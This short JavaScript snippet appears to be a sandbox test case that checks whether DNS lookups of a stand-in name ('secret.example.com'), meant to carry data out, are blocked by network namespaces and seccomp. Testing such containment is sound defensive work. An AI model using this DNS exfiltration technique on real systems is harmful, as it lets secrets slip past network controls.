// Takes data out in names that it has looked up.
// Stopped by: network namespace, seccomp
(async () => {
  await attemptSoon("lookup", (say) => dns.lookup("secret.example.com", (fault) => say(fault ?? true)));
  await attemptSoon("resolve", (say) => { try { const resolver = new dns.Resolver({ timeout: 300, tries: 1 }); resolver.setServers([`127.0.0.1:${target.udp}`]); resolver.resolve4("secret.example.com", (fault) => say(fault ?? true)); } catch (cause) { say(cause); } });
})();
